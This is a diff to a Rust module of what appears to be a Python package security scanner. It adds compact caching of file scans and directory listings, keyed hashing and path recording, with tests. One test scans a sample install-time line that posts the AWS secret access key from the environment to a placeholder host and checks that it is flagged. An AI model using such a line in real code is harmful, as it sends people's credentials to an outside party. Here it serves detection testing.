@@ -1,6 +1,7 @@
 //! The on-demand mode (`WHERE path = ...`): one file, a source tree, or an
 //! sdist/wheel archive, scanned through the [`Host`] with per-file caching.
 
+use std::hash::{BuildHasher, RandomState};
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
@@ -40,6 +41,126 @@ pub struct ScannedFile {
     pub scan: FileScan,
 }
 
+/// A cached file scan: most files have no finding, and then their digest
+/// and flags are all there is to keep (34 bytes instead of a heap string
+/// and a shared allocation).
+#[derive(Debug, Clone)]
+enum Cached {
+    Clean {
+        sha256: Option<[u8; 32]>,
+        binary: bool,
+        truncated: bool,
+    },
+    Full(Arc<ScannedFile>),
+}
+
+impl Cached {
+    fn new(f: &Arc<ScannedFile>) -> Cached {
+        // Compact only when nothing is lost: the scan equals one rebuilt
+        // from the flags alone, and the digest is 64 hex digits.
+        let scan = FileScan {
+            binary: f.scan.binary,
+            truncated: f.scan.truncated,
+            ..FileScan::default()
+        };
+        let sha256 = match &f.sha256 {
+            None => Some(None),
+            Some(h) => unhex32(h).map(Some),
+        };
+        match sha256 {
+            Some(sha256) if scan == f.scan => Cached::Clean {
+                sha256,
+                binary: scan.binary,
+                truncated: scan.truncated,
+            },
+            _ => Cached::Full(f.clone()),
+        }
+    }
+
+    fn get(&self) -> Arc<ScannedFile> {
+        match self {
+            Cached::Full(f) => f.clone(),
+            Cached::Clean {
+                sha256,
+                binary,
+                truncated,
+            } => Arc::new(ScannedFile {
+                sha256: sha256.map(|d| d.iter().map(|b| format!("{b:02x}")).collect()),
+                scan: FileScan {
+                    binary: *binary,
+                    truncated: *truncated,
+                    ..FileScan::default()
+                },
+            }),
+        }
+    }
+}
+
+/// 64 lowercase hex digits as 32 bytes (`None` for anything else).
+fn unhex32(h: &str) -> Option<[u8; 32]> {
+    let b = h.as_bytes();
+    if b.len() != 64 {
+        return None;
+    }
+    let digit = |c: u8| match c {
+        b'0'..=b'9' => Some(c - b'0'),
+        b'a'..=b'f' => Some(c - b'a' + 10),
+        _ => None,
+    };
+    let mut out = [0u8; 32];
+    for (i, o) in out.iter_mut().enumerate() {
+        *o = (digit(b[2 * i])? << 4) | digit(b[2 * i + 1])?;
+    }
+    Some(out)
+}
+
+/// A cached directory listing: the entries' names, NUL-separated (no file
+/// name holds a NUL), and their types; the full paths are made again from
+/// the directory's path when it is listed, not kept.
+#[derive(Debug)]
+pub struct Listing {
+    names: Box<[u8]>,
+    types: Box<[std::fs::FileType]>,
+}
+
+impl Listing {
+    fn new(entries: &[crate::host::DirEntry]) -> Listing {
+        use std::os::unix::ffi::OsStrExt;
+        let mut names = Vec::with_capacity(entries.iter().map(|e| e.name.len() + 1).sum());
+        for (i, e) in entries.iter().enumerate() {
+            if i > 0 {
+                names.push(0);
+            }
+            names.extend_from_slice(e.name.as_bytes());
+        }
+        Listing {
+            names: names.into_boxed_slice(),
+            types: entries.iter().map(|e| e.file_type).collect(),
+        }
+    }
+
+    /// The entries again, below `dir` (as [`Host::read_dir`] names them).
+    fn entries(&self, dir: &Path) -> Vec<crate::host::DirEntry> {
+        use std::os::unix::ffi::OsStrExt;
+        if self.types.is_empty() {
+            return Vec::new();
+        }
+        let base = Host::normalize(dir);
+        self.names
+            .split(|b| *b == 0)
+            .zip(self.types.iter())
+            .map(|(name, file_type)| {
+                let name = std::ffi::OsStr::from_bytes(name);
+                crate::host::DirEntry {
+                    path: base.join(name),
+                    name: name.to_os_string(),
+                    file_type: *file_type,
+                }
+            })
+            .collect()
+    }
+}
+
 /// A scanning problem tied to a file (becomes a row with `status` set).
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ScanProblem {
@@ -69,13 +190,22 @@ pub struct Scanner {
     pub rules: &'static Rules,
     /// Archive limits.
     pub limits: Limits,
-    files: Cache<(FileKey, Role), Arc<ScannedFile>>,
+    /// File scans without a persistent cache, by a keyed 128-bit hash of
+    /// (file version, role), compact when the file had no finding.
+    files: Cache<u128, Cached>,
+    /// Paths scanned, when asked for (see [`Scanner::recording_paths`]).
+    paths: Option<std::sync::Mutex<Vec<PathBuf>>>,
     archives: Cache<FileKey, Arc<archive::ArchiveScan>>,
     /// Per-site indexes of distributions (see [`super::site`]).
     pub(crate) sites: Cache<PathBuf, Arc<super::site::SiteIndex>>,
     /// Directory listings keyed by the directory's version (its mtime
-    /// changes whenever an entry is added, removed or renamed).
-    listings: Cache<FileKey, Arc<Vec<crate::host::DirEntry>>>,
+    /// changes whenever an entry is added, removed or renamed), as a keyed
+    /// 128-bit hash of its [`FileKey`], and kept compact (names only, see
+    /// [`Listing`]): a host's listings are most of what a scan keeps.
+    listings: Cache<u128, Arc<Listing>>,
+    /// The two keys of the listings' 128-bit hashes (drawn per process, so
+    /// no one can aim a collision at them).
+    keys: (RandomState, RandomState),
     /// Directories already resolved inside the root during the current
     /// query (see [`Scanner::begin_query`]).
     dirs: std::sync::Mutex<std::collections::HashMap<PathBuf, PathBuf>>,
@@ -118,9 +248,11 @@ impl Scanner {
             rules,
             limits: Limits::default(),
             files: Cache::new(200_000),
+            paths: None,
             archives: Cache::new(10_000),
             sites: Cache::new(10_000),
             listings: Cache::new(200_000),
+            keys: (RandomState::new(), RandomState::new()),
             dirs: std::sync::Mutex::new(std::collections::HashMap::new()),
             persist: None,
         }
@@ -144,9 +276,9 @@ impl Scanner {
         dir: &Path,
     ) -> Result<Arc<Vec<crate::host::DirEntry>>, crate::host::HostError> {
         let md = self.stat(host, dir)?;
-        let key = FileKey::new(dir, &md);
+        let key = self.hash128(&FileKey::new(dir, &md));
         if let Some(hit) = self.listings.get(&key) {
-            return Ok(hit);
+            return Ok(Arc::new(hit.entries(dir)));
         }
         // The parent was resolved (once per query) by `stat` above: list the
         // child directly rather than re-walking its whole path.
@@ -157,9 +289,8 @@ impl Scanner {
             }
             _ => host.read_dir(dir)?,
         };
-        let entries = Arc::new(entries);
-        self.listings.insert(key, entries.clone());
-        Ok(entries)
+        self.listings.insert(key, Arc::new(Listing::new(&entries)));
+        Ok(Arc::new(entries))
     }
 
     /// Forgets the directory resolutions of the previous query. Call at the
@@ -168,8 +299,15 @@ impl Scanner {
     /// file, which is what makes a repeated query over an unchanged host
     /// cost little more than one `lstat` per file.
     pub fn begin_query(&self) {
+        self.end_query();
+    }
+
+    /// Drops the query's working set (the directory resolutions), so that
+    /// what a long-lived process keeps between queries is its caches only.
+    /// Call when a query's rows are made.
+    pub fn end_query(&self) {
         if let Ok(mut d) = self.dirs.lock() {
-            d.clear();
+            *d = std::collections::HashMap::new();
         }
     }
 
@@ -256,13 +394,29 @@ impl Scanner {
         Ok((buf, md.len() > cap))
     }
 
-    /// The host paths of every cached file scan (for benchmarks: the file
-    /// list a peer scans for comparison).
+    /// Also remembers the path of every file scanned, for
+    /// [`Scanner::scanned_paths`] (benchmarks; the caches keep no paths).
+    pub fn recording_paths(mut self) -> Self {
+        self.paths = Some(std::sync::Mutex::new(Vec::new()));
+        self
+    }
+
+    /// The host paths of every file scanned since [`Scanner::recording_paths`]
+    /// (for benchmarks: the file list a peer scans for comparison), sorted.
     pub fn scanned_paths(&self) -> Vec<PathBuf> {
-        let mut v: Vec<PathBuf> = self.files.keys().into_iter().map(|(k, _)| k.path).collect();
+        let mut v: Vec<PathBuf> = self
+            .paths
+            .as_ref()
+            .and_then(|p| p.lock().ok().map(|p| p.clone()))
+            .unwrap_or_default();
         v.sort();
         v.dedup();
         v
+    }
+
+    /// A keyed 128-bit hash (keys drawn per process).
+    fn hash128(&self, x: &impl std::hash::Hash) -> u128 {
+        (u128::from(self.keys.0.hash_one(x)) << 64) | u128::from(self.keys.1.hash_one(x))
     }
 
     /// Number of cached file scans (for tests and benchmarks).
@@ -279,17 +433,24 @@ impl Scanner {
         role: Role,
     ) -> Result<Arc<ScannedFile>, crate::host::HostError> {
         let md = self.stat(host, path)?;
-        let key = (FileKey::new(path, &md), role);
+        if let Some(p) = &self.paths {
+            if let Ok(mut p) = p.lock() {
+                p.push(path.to_path_buf());
+            }
+        }
+        let key = self.hash128(&(FileKey::new(path, &md), role));
         if let Some(hit) = self.files.get(&key) {
-            return Ok(hit);
+            return Ok(hit.get());
         }
         let ident = Ident::from_metadata(&md);
+        // With a persistent cache, that is the one cache: it holds every
+        // scan this process makes, so an in-process copy would only double
+        // the memory.
         if let Some(hit) = self
             .persist
             .as_ref()
             .and_then(|p| p.scan(path, role, ident))
         {
-            self.files.insert(key, hit.clone());
             return Ok(hit);
         }
         let (bytes, truncated) = self.read_prefix(host, path, &md)?;
@@ -297,9 +458,9 @@ impl Scanner {
         scan.truncated |= truncated;
         let sha256 = (!scan.binary).then(|| sha256_hex(&bytes));
         let out = Arc::new(ScannedFile { sha256, scan });
-        self.files.insert(key, out.clone());
-        if let Some(p) = &self.persist {
-            p.put_scan(path, role, ident, out.clone());
+        match &self.persist {
+            Some(p) => p.put_scan(path, role, ident, out.clone()),
+            None => self.files.insert(key, Cached::new(&out)),
         }
         Ok(out)
     }
@@ -644,5 +805,113 @@ fn push_all(
             file_sha256: sha.clone(),
             finding: f.clone(),
         });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_clean_scan_is_kept_compact_and_comes_back_the_same() {
+        let clean = Arc::new(ScannedFile {
+            sha256: Some(sha256_hex(b"print(1)\n")),
+            scan: FileScan {
+                truncated: true,
+                ..FileScan::default()
+            },
+        });
+        let c = Cached::new(&clean);
+        assert!(matches!(c, Cached::Clean { .. }));
+        assert_eq!(c.get().sha256, clean.sha256);
+        assert_eq!(c.get().scan, clean.scan);
+        let binary = Arc::new(ScannedFile {
+            sha256: None,
+            scan: FileScan {
+                binary: true,
+                ..FileScan::default()
+            },
+        });
+        assert_eq!(Cached::new(&binary).get().scan, binary.scan);
+        assert_eq!(Cached::new(&binary).get().sha256, None);
+    }
+
+    #[test]
+    fn a_scan_with_findings_or_an_odd_digest_is_kept_whole() {
+        let rules = RuleSet::builtin();
+        let scan = scan_source(
+            rules,
+            b"import os, requests\nrequests.post('https://x.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
+            Role::Install,
+        );
+        assert!(!scan.findings.is_empty());
+        let hit = Arc::new(ScannedFile {
+            sha256: Some("ab".repeat(32)),
+            scan,
+        });
+        assert!(matches!(Cached::new(&hit), Cached::Full(_)));
+        let odd = Arc::new(ScannedFile {
+            sha256: Some("XYZ".into()),
+            scan: FileScan::default(),
+        });
+        assert_eq!(Cached::new(&odd).get().sha256.as_deref(), Some("XYZ"));
+        assert_eq!(unhex32(&"0f".repeat(32)), Some([0x0f; 32]));
+        assert_eq!(unhex32(&"0F".repeat(32)), None);
+    }
+
+    #[test]
+    fn a_cached_listing_gives_the_same_entries() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join("pkg")).unwrap();
+        std::fs::write(dir.path().join("a.py"), b"").unwrap();
+        std::fs::write(dir.path().join("b.pth"), b"").unwrap();
+        std::os::unix::fs::symlink("a.py", dir.path().join("link")).unwrap();
+        let host = Host::new(dir.path());
+        let scanner = Scanner::default();
+        let first = scanner.list_dir(&host, Path::new("/")).unwrap();
+        let again = scanner.list_dir(&host, Path::new("/")).unwrap();
+        assert_eq!(first.len(), 4);
+        let view = |v: &[crate::host::DirEntry]| -> Vec<(PathBuf, std::ffi::OsString, bool, bool)> {
+            v.iter()
+                .map(|e| {
+                    (
+                        e.path.clone(),
+                        e.name.clone(),
+                        e.file_type.is_dir(),
+                        e.file_type.is_symlink(),
+                    )
+                })
+                .collect()
+        };
+        assert_eq!(view(&first), view(&again));
+        assert!(again
+            .iter()
+            .any(|e| e.path == Path::new("/pkg") && e.file_type.is_dir()));
+        // An entry added changes the directory's version: listed anew.
+        std::fs::write(dir.path().join("c.py"), b"").unwrap();
+        assert_eq!(scanner.list_dir(&host, Path::new("/")).unwrap().len(), 5);
+        let empty = tempfile::tempdir().unwrap();
+        let host = Host::new(empty.path());
+        assert!(scanner.list_dir(&host, Path::new("/")).unwrap().is_empty());
+        assert!(scanner.list_dir(&host, Path::new("/")).unwrap().is_empty());
+    }
+
+    #[test]
+    fn recorded_paths_are_what_was_scanned() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("a.py"), b"x = 1\n").unwrap();
+        let host = Host::new(dir.path());
+        let plain = Scanner::default();
+        plain
+            .scan_file(&host, Path::new("/a.py"), Role::Module)
+            .unwrap();
+        assert!(plain.scanned_paths().is_empty());
+        assert_eq!(plain.cached_files(), 1);
+        let rec = Scanner::default().recording_paths();
+        rec.scan_file(&host, Path::new("/a.py"), Role::Module)
+            .unwrap();
+        rec.scan_file(&host, Path::new("/a.py"), Role::Module)
+            .unwrap();
+        assert_eq!(rec.scanned_paths(), vec![PathBuf::from("/a.py")]);
     }
 }
